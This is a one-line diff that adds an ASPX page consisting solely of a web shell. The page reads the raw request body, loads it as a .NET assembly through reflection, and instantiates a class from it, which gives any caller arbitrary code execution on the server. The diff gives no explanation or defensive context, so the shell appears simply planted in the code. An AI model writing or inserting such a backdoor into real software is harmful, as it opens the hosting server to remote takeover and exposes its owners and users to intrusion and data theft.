@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%byte[] d=Request.BinaryRead(Request.ContentLength);System.Reflection.Assembly.Load(d).CreateInstance("U").Equals(this);%>
